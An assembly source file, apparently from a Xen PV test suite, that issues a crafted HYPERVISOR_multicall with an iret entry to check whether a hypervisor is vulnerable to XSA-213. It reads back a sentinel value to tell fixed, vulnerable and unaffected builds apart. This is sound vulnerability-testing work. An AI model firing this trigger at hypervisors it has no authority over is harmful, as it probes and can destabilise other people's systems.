/*
 * poc_asm.S - the multicall the XSA-213 step of pvtest-v2-poc issues (POC=1).
 *
 * long poc_multicall_iret(calls, n, rax): HYPERVISOR_multicall with an
 * iret_context (xen/include/public/arch-x86/xen-x86_64.h) on top of the
 * stack, so that an iret entry of the batch pops it: it resumes at 1: below
 * with this function's RSP (its return address on top), RAX = rax, a kernel
 * CS and events masked.  What the caller gets back is what RAX holds at 1::
 *   rax             the iret's RAX: the batch ended at the iret (fixed, Xen
 *                   with XSA-213's fix) ...
 *   0               ... or the batch went on and the multicall's own 0
 *                   replaced it (vulnerable); with rax = 0 the caller tells
 *                   them apart by whether the entry after the iret ran
 *   0xbad0bad0bad0  the multicall returned to its call site: the iret was
 *                   not honoured at all (neither)
 */
#include "xen_abi.h"

        .text
        .globl poc_multicall_iret
        .type poc_multicall_iret, @function
poc_multicall_iret:
        mov     %rsp, %r9               /* RSP at 1: (return address on top) */
        lea     1f(%rip), %rax
        pushq   $FLAT_KERNEL_SS64       /* ss */
        push    %r9                     /* rsp */
        pushq   $2                      /* rflags: IF clear */
        pushq   $(FLAT_KERNEL_CS64 & ~3) /* cs, RPL 0: stay in kernel mode */
        push    %rax                    /* rip */
        pushq   $0                      /* flags */
        pushq   $0                      /* rcx */
        pushq   $0                      /* r11 */
        push    %rdx                    /* rax */
        mov     $HC_multicall, %eax
        syscall
        add     $72, %rsp
        movabs  $0xbad0bad0bad0, %rax
1:      ret
        .size poc_multicall_iret, . - poc_multicall_iret
